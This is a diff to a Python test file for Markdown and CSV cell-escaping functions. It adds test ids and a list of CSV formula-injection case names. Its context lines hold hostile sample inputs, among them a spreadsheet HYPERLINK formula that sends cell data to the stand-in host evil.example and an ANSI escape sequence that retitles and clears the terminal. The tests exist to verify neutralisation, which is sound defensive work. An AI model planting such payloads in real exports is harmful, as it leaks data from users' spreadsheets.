@@ -27,6 +27,26 @@ FORMULA = '=HYPERLINK("evil.example?q="&A1,"open")'
 ANSI = "\x1b[31mred\x1b[0m\x1b]0;pwned\x07\x1b[2J"
 HOSTILE = (SCRIPT, IMG, NEWLINE, FORMULA, ANSI)
 REFERENCE = Path(__file__).parent / "data" / "reference_generations"
+CSV_CASES = [
+    "hyperlink",
+    "plus",
+    "minus-dde",
+    "at",
+    "tab",
+    "carriage-return",
+    "spaces-then-equals",
+    "full-width-equals",
+    "negative-number-text",
+    "plus-number-text",
+    "exponent-text",
+    "negative-float",
+    "nan",
+    "inf",
+    "none",
+    "comma",
+    "newline",
+    "plain",
+]
 
 
 # The functions, on hand-written cells ---------------------------------------------------------
@@ -43,6 +63,7 @@ REFERENCE = Path(__file__).parent / "data" / "reference_generations"
         (ANSI, "red"),
         ("org/base + adapters/joint", "org/base + adapters/joint"),  # ordinary names unchanged
     ],
+    ids=["script", "img-onerror", "newline-pipe", "line-breaks", "ampersand", "ansi", "plain"],
 )
 def test_markdown_cells_escape_html_and_pipes_on_one_line(raw, cell):
     assert markdown_cell(raw) == cell
@@ -70,6 +91,7 @@ def test_markdown_cells_escape_html_and_pipes_on_one_line(raw, cell):
         ("two\nlines", "two lines"),
         ("org/base", "org/base"),
     ],
+    ids=CSV_CASES,
 )
 def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(value, line):
     assert csv_text(["h", "n"], [[value, 1]]) == f"h,n\n{line},1\n"
